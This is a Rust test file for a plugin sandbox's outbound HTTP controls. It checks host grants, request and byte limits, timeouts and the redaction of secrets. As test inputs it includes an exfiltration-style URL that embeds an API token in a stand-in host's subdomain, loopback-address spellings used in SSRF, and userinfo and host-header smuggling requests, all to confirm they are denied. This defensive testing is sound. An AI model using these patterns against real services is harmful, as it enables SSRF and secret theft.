//! Outbound HTTP against a real server on loopback (`server.rs`), through
//! the `net` test guest: what a host grant lets through, and every way the
//! tests can think of for a plugin to reach a host it was not granted.

use std::time::Duration;

use serde_json::{Value, json};
use warden::sandbox::{
    Capabilities, DenialReason, GrantedComponent, LeaseFailure, Leased, Limits, Outcome,
    PluginComponent, wit,
};
use warden_tests::guests;

use crate::server::TestServer;
use crate::{invoke, load, output, sandbox, test_limits};

fn net_component() -> &'static PluginComponent {
    static COMPONENT: std::sync::OnceLock<PluginComponent> = std::sync::OnceLock::new();
    COMPONENT.get_or_init(|| load(guests::NET))
}

fn net(hosts: &[&str], limits: Limits) -> GrantedComponent {
    let caps = hosts
        .iter()
        .fold(Capabilities::none(), |caps, h| caps.host(*h));
    sandbox().grant(net_component(), caps, limits)
}

async fn fetch(
    g: &GrantedComponent,
    args: Value,
) -> Leased<Result<wit::ToolOutput, wit::ToolError>> {
    invoke(g, "fetch", args).await
}

fn denied(leased: &Leased<Result<wit::ToolOutput, wit::ToolError>>) -> String {
    match &leased.result {
        Ok(Err(wit::ToolError::Denied(m))) => m.clone(),
        other => panic!("expected a denial, got {other:?}"),
    }
}

fn failed(leased: &Leased<Result<wit::ToolOutput, wit::ToolError>>) -> String {
    match &leased.result {
        Ok(Err(wit::ToolError::Failed(f))) => f.message.clone(),
        other => panic!("expected a failure, got {other:?}"),
    }
}

fn reasons(leased: &Leased<Result<wit::ToolOutput, wit::ToolError>>) -> Vec<DenialReason> {
    let network = leased.receipt.network.as_ref().expect("network usage");
    network.denials.iter().map(|d| d.reason.clone()).collect()
}

#[tokio::test]
async fn a_granted_address_is_reached_and_metered_in_the_receipt() {
    let server = TestServer::start().await;
    let g = net(&[&server.grant()], test_limits());
    for code in [200, 404, 500] {
        let leased = fetch(&g, json!({ "url": server.url(&format!("/status/{code}")) })).await;
        let out = output(&leased);
        assert_eq!(out["status"], code);
        assert_eq!(out["body"], format!("status {code}"));
        let network = leased.receipt.network.as_ref().unwrap();
        assert_eq!(network.requests, 1);
        assert_eq!(network.hosts, [server.grant()]);
        assert_eq!(network.bytes_in, 10);
        assert!(network.denials.is_empty());
    }
    let leased = fetch(
        &g,
        json!({ "url": server.url("/echo"), "method": "POST", "body": "ping" }),
    )
    .await;
    let echoed: Value = serde_json::from_str(output(&leased)["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["method"], "POST");
    assert_eq!(echoed["body"], "ping");
    assert_eq!(leased.receipt.network.as_ref().unwrap().bytes_out, 4);
    assert_eq!(server.connections(), 4);
}

#[tokio::test]
async fn without_a_host_grant_every_request_is_denied_before_it_leaves() {
    let server = TestServer::start().await;
    let g = net(&[], test_limits());
    let leased = fetch(&g, json!({ "url": server.url("/status/200") })).await;
    let message = denied(&leased);
    assert!(message.contains(&server.grant()), "{message}");
    assert_eq!(leased.receipt.outcome, Outcome::GuestError);
    assert_eq!(reasons(&leased), [DenialReason::NotGranted]);
    assert_eq!(leased.receipt.network.as_ref().unwrap().requests, 0);
    // Granted environment variables that would steer an HTTP client to a
    // proxy change nothing: the host's connector reads no environment.
    let proxied = sandbox().grant(
        net_component(),
        Capabilities::none()
            .env("HTTP_PROXY", server.url("/"))
            .env("http_proxy", server.url("/"))
            .env("HTTPS_PROXY", server.url("/"))
            .env("ALL_PROXY", server.url("/")),
        test_limits(),
    );
    for url in [
        "http://example.com/",
        "https://example.com/",
        &server.url("/echo"),
    ] {
        let leased = fetch(&proxied, json!({ "url": url })).await;
        denied(&leased);
    }
    assert_eq!(server.connections(), 0);
}

#[tokio::test]
async fn wrong_hosts_ports_and_schemes_are_denied_naming_the_host() {
    let server = TestServer::start().await;
    let g = net(
        &[&format!("http://127.0.0.1:{}", server.port)],
        test_limits(),
    );
    let other_port = if server.port == 65535 {
        1
    } else {
        server.port + 1
    };
    let cases = [
        format!("http://127.0.0.1:{other_port}/"),
        format!("https://127.0.0.1:{}/", server.port),
        format!("http://127.0.0.2:{}/", server.port),
        "http://example.com/".to_owned(),
    ];
    for url in &cases {
        let leased = fetch(&g, json!({ "url": url })).await;
        let message = denied(&leased);
        let host = url.split("://").nth(1).unwrap().trim_end_matches('/');
        let host = if host.contains(':') {
            host.to_owned()
        } else {
            format!("{host}:80")
        };
        assert!(message.contains(&host), "{url}: {message}");
        assert_eq!(reasons(&leased), [DenialReason::NotGranted], "{url}");
    }
    assert_eq!(server.connections(), 0);
    // The granted one goes through.
    output(&fetch(&g, json!({ "url": server.url("/status/200") })).await);
    assert_eq!(server.connections(), 1);
}

#[tokio::test]
async fn a_granted_name_that_resolves_to_loopback_is_refused_unless_the_address_is_granted() {
    let server = TestServer::start().await;
    let by_name = format!("localhost:{}", server.port);
    let url = format!("http://localhost:{}/status/200", server.port);
    // DNS-rebinding style: the name is granted, the address it resolves to
    // is not public and was not granted.
    let g = net(&[&by_name], test_limits());
    let leased = fetch(&g, json!({ "url": url })).await;
    let message = denied(&leased);
    assert!(message.contains(&by_name), "{message}");
    match reasons(&leased).as_slice() {
        [DenialReason::AddressNotAllowed { addresses }] => {
            assert!(addresses.iter().all(|a| a.is_loopback()), "{addresses:?}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(server.connections(), 0);
    // `*` never allows a non-public address either, however it is spelled:
    // each spelling is refused by policy or fails to resolve.
    let g = net(&["*"], test_limits());
    denied(&fetch(&g, json!({ "url": url })).await);
    denied(&fetch(&g, json!({ "url": server.url("/status/200") })).await);
    let port = server.port;
    for spelling in [
        "127.1",
        "2130706433",
        "0x7f000001",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "0.0.0.0",
    ] {
        let leased = fetch(&g, json!({ "url": format!("http://{spelling}:{port}/") })).await;
        assert!(
            matches!(leased.result, Ok(Err(_))),
            "{spelling}: {:?}",
            leased.result
        );
    }
    assert_eq!(server.connections(), 0);
    // Granting the address itself lets the name through, to that address.
    let g = net(&[&by_name, &server.grant()], test_limits());
    let leased = fetch(&g, json!({ "url": url })).await;
    assert_eq!(output(&leased)["status"], 200);
    assert_eq!(leased.receipt.network.as_ref().unwrap().hosts, [by_name]);
    assert_eq!(server.connections(), 1);
}

#[tokio::test]
async fn a_slow_response_hits_the_lease_deadline_or_the_request_timeout() {
    let server = TestServer::start().await;
    let g = net(
        &[&server.grant()],
        Limits {
            timeout: Duration::from_millis(500),
            ..test_limits()
        },
    );
    let leased = fetch(&g, json!({ "url": server.url("/slow") })).await;
    assert!(
        matches!(
            leased.result.as_ref().unwrap_err().failure,
            LeaseFailure::Timeout { .. }
        ),
        "{:?}",
        leased.result
    );
    assert_eq!(leased.receipt.outcome, Outcome::Timeout);
    assert_eq!(leased.receipt.network.as_ref().unwrap().requests, 1);
    // A request timeout shorter than the deadline is the guest's to handle.
    let g = net(&[&server.grant()], test_limits());
    let leased = fetch(&g, json!({ "url": server.url("/slow"), "timeout_ms": 100 })).await;
    let message = failed(&leased);
    assert!(message.contains("timed out"), "{message}");
    crate::assert_serves_normal_call(&crate::hostile(Capabilities::none(), test_limits())).await;
}

#[tokio::test]
async fn oversized_bodies_stop_at_the_response_limit() {
    let server = TestServer::start().await;
    let g = net(
        &[&server.grant()],
        Limits {
            http_response_bytes: 1000,
            ..test_limits()
        },
    );
    let leased = fetch(&g, json!({ "url": server.url("/big/5000") })).await;
    let message = failed(&leased);
    assert!(
        message.contains("over the response limit of 1000 bytes"),
        "{message}"
    );
    assert!(leased.receipt.network.as_ref().unwrap().bytes_in <= 1000);
    // Under the limit, the guest's own cap truncates.
    let leased = fetch(
        &g,
        json!({ "url": server.url("/big/900"), "max_bytes": 100 }),
    )
    .await;
    let out = output(&leased);
    assert_eq!(
        (out["body"].as_str().unwrap().len(), &out["truncated"]),
        (100, &json!(true))
    );
}

/// 32 requests in flight at once draw on one response budget: the lease
/// receives at most its limit in all, not the limit per request.
#[tokio::test]
async fn concurrent_responses_share_one_byte_budget_per_lease() {
    let server = TestServer::start().await;
    let limit = 256 << 10;
    let g = net(
        &[&server.grant()],
        Limits {
            http_response_bytes: limit,
            ..test_limits()
        },
    );
    let leased = fetch_all(&g, &server.url(&format!("/big/{}", 64 << 10)), 32).await;
    let out = output(&leased);
    let received = out["bytes"].as_u64().unwrap();
    assert!(received <= limit, "{received} bytes received");
    let errors = out["errors"].as_array().unwrap();
    assert!(
        errors.len() >= 32 - 4,
        "the bodies past the budget fail: {out}"
    );
    assert!(
        errors[0].as_str().unwrap().contains("response body size"),
        "{out}"
    );
    let network = leased.receipt.network.as_ref().unwrap();
    assert_eq!(network.requests, 32);
    assert!(network.bytes_in <= limit, "{network:?}");
    // A new lease has the whole budget again.
    let leased = fetch_all(&g, &server.url(&format!("/big/{}", 64 << 10)), 4).await;
    assert_eq!(output(&leased)["bytes"], 4 * (64 << 10));
}

async fn fetch_all(
    g: &GrantedComponent,
    url: &str,
    count: u32,
) -> Leased<Result<wit::ToolOutput, wit::ToolError>> {
    invoke(g, "fetch_all", json!({ "url": url, "count": count })).await
}

#[tokio::test]
async fn the_request_limit_is_per_lease() {
    let server = TestServer::start().await;
    let g = net(
        &[&server.grant()],
        Limits {
            http_requests: 2,
            ..test_limits()
        },
    );
    let leased = fetch(&g, json!({ "url": server.url("/status/200"), "repeat": 3 })).await;
    let message = denied(&leased);
    assert!(message.contains("request limit"), "{message}");
    assert_eq!(reasons(&leased), [DenialReason::RequestLimit { limit: 2 }]);
    assert_eq!(server.connections(), 2);
    // A new lease starts again.
    output(&fetch(&g, json!({ "url": server.url("/status/200"), "repeat": 2 })).await);
}

#[tokio::test]
async fn redirects_are_not_followed_by_the_host() {
    let server = TestServer::start().await;
    let g = net(&[&server.grant()], test_limits());
    let leased = fetch(
        &g,
        json!({ "url": server.url("/redirect?to=http://example.com/") }),
    )
    .await;
    let out = output(&leased);
    assert_eq!(out["status"], 302);
    assert_eq!(out["headers"]["location"], "http://example.com/");
    assert_eq!(
        leased.receipt.network.as_ref().unwrap().hosts,
        [server.grant()]
    );
}

#[tokio::test]
async fn hand_built_requests_cannot_smuggle_another_host() {
    let server = TestServer::start().await;
    let g = net(&[&server.grant()], test_limits());
    let raw = |authority: String, path: Option<&str>, headers: Value| json!({ "scheme": "http", "authority": authority, "path": path, "headers": headers });
    let port = server.port;
    let refused = [
        // User info naming the granted host in front of another one.
        raw(format!("127.0.0.1:{port}@example.com"), None, json!([])),
        // An absolute-form request target naming another host.
        raw(
            format!("127.0.0.1:{port}"),
            Some("http://example.com/"),
            json!([]),
        ),
        // A `host` header naming another host.
        raw(
            format!("127.0.0.1:{port}"),
            Some("/echo"),
            json!([["host", "example.com"]]),
        ),
        // Another scheme.
        json!({ "scheme": "ftp", "authority": server.grant() }),
        // No authority.
        raw(String::new(), Some("/"), json!([])),
    ];
    for args in refused {
        let leased = invoke(&g, "raw", args.clone()).await;
        assert!(
            matches!(leased.result, Ok(Err(_))),
            "{args}: {:?}",
            leased.result
        );
    }
    assert_eq!(server.connections(), 0);
    // User info in front of the granted host would reach the server in the
    // `host` header: refused before anything leaves, and the receipt's
    // target leaves the user info out.
    for userinfo in ["example.com", "user:pw", "user"] {
        let leased = invoke(
            &g,
            "raw",
            raw(
                format!("{userinfo}@127.0.0.1:{port}"),
                Some("/echo"),
                json!([]),
            ),
        )
        .await;
        let message = failed(&leased);
        assert!(message.contains("HttpRequestDenied"), "{message}");
        assert_eq!(reasons(&leased), [DenialReason::UserInfo]);
        let network = leased.receipt.network.as_ref().unwrap();
        assert_eq!(network.denials[0].target, server.url(""));
        assert!(network.hosts.is_empty());
    }
    assert_eq!(server.connections(), 0);
    // The same request without user info goes through.
    let leased = invoke(
        &g,
        "raw",
        raw(format!("127.0.0.1:{port}"), Some("/echo"), json!([])),
    )
    .await;
    assert_eq!(output(&leased)["status"], 200);
    assert_eq!(server.seen().len(), 1);
}

/// What the guest asked for may hold a secret: a denied target is
/// redacted in the receipt, the tool's error and the host's logs.
#[tokio::test]
async fn a_denied_targets_secret_is_redacted_in_the_receipt_and_the_logs() {
    let secret = "sk-live-0123456789";
    let logs = crate::Logs::capture();
    let g = sandbox().grant(
        net_component(),
        Capabilities::none().env("API_TOKEN", secret),
        test_limits(),
    );
    let leased = fetch(
        &g,
        json!({ "url": format!("https://{secret}.exfil.invalid/") }),
    )
    .await;
    let message = denied(&leased);
    assert!(!message.contains(secret), "{message}");
    let network = leased.receipt.network.as_ref().unwrap();
    assert_eq!(
        network.denials[0].target,
        "https://[redacted:API_TOKEN].exfil.invalid:443"
    );
    let receipt = serde_json::to_string(&leased.receipt).unwrap();
    assert!(!receipt.contains(secret), "{receipt}");
    let text = logs.text();
    assert!(text.contains("outbound request denied"), "{text}");
    assert!(!text.contains(secret), "{text}");
}

/// Redaction cannot catch a secret a plugin encodes itself, so holding a
/// secret and a way out is made visible when the plugin is loaded.
#[tokio::test]
async fn a_plugin_granted_a_secret_and_an_egress_path_is_warned_about_at_load() {
    let dir = tempfile::tempdir().unwrap();
    let source = crate::plugin_manifest(
        dir.path(),
        "net",
        "tool",
        guests::NET,
        "env = [\"API_TOKEN\"]\nhosts = [\"api.example.com\"]\n",
    );
    let host = warden::plugins::PluginHost::new(sandbox().clone());
    let env = |_: &str| Some("sk-live-0123456789".to_owned());
    let logs = crate::Logs::capture();
    let grant = |text: &str| -> warden::grant::Grant { toml::from_str(text).unwrap() };
    host.load_with_env(&source, &grant("env = [\"API_TOKEN\"]\n"), dir.path(), env)
        .await
        .unwrap();
    assert!(!logs.text().contains("a way out"), "{}", logs.text());
    host.load_with_env(
        &source,
        &grant("env = [\"API_TOKEN\"]\nhosts = [\"api.example.com\"]\n"),
        dir.path(),
        env,
    )
    .await
    .unwrap();
    let text = logs.text();
    let warning = text
        .lines()
        .find(|l| l.contains("can read a secret and has a way out"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(warning.contains("WARN"), "{warning}");
    assert!(warning.contains("API_TOKEN"), "{warning}");
    assert!(warning.contains("host `api.example.com`"), "{warning}");
    assert!(!text.contains("sk-live-0123456789"), "{text}");
}

#[tokio::test]
async fn plugins_without_wasi_http_carry_no_network_state() {
    let noop = load(guests::NOOP);
    assert!(!noop.imports_http());
    assert!(net_component().imports_http());
    let g = sandbox().grant(&noop, Capabilities::none().host("*"), test_limits());
    let leased = invoke(&g, "noop", json!({})).await;
    assert_eq!(leased.receipt.network, None);
    // A component that imports wasi:http but sends nothing has none either.
    let env = invoke(&net(&["*"], test_limits()), "env", json!({})).await;
    output(&env);
    assert_eq!(env.receipt.network, None);
}

#[tokio::test]
async fn https_goes_through_tls_to_the_checked_address() {
    // The loopback server speaks plain HTTP: an https request to it connects
    // (the address is granted) and then fails in the TLS handshake, typed.
    let server = TestServer::start().await;
    let g = net(&[&server.grant()], test_limits());
    let leased = fetch(
        &g,
        json!({ "url": format!("https://127.0.0.1:{}/status/200", server.port) }),
    )
    .await;
    let message = failed(&leased);
    assert!(message.contains(&server.grant()), "{message}");
    assert!(message.to_ascii_lowercase().contains("tls"), "{message}");
    assert_eq!(server.connections(), 1);
    assert!(server.seen().is_empty());
}
